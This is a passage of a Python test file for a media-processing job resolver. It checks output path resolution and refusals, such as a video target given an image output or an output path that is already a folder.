    spec = parse_job(job(targets="top.png", output="out/final.png"), FILE)
    assert [t.output_rel for t in resolve_job(spec, root, FILE).targets] == ["out/final.png"]


def test_output_kind_must_match_the_target(root: Path) -> None:
    err = resolved_refusal(root, targets="clips/*.mp4", output="out/{stem}.jpg")
    assert err.reason == "'clips/v.mp4' is a video but its output out/v.jpg is not"


def test_output_onto_an_existing_folder(root: Path) -> None:
    (root / "out" / "top.png").mkdir(parents=True)
    assert "which is a folder" in resolved_refusal(root, targets="top.png", output="out/{name}").reason
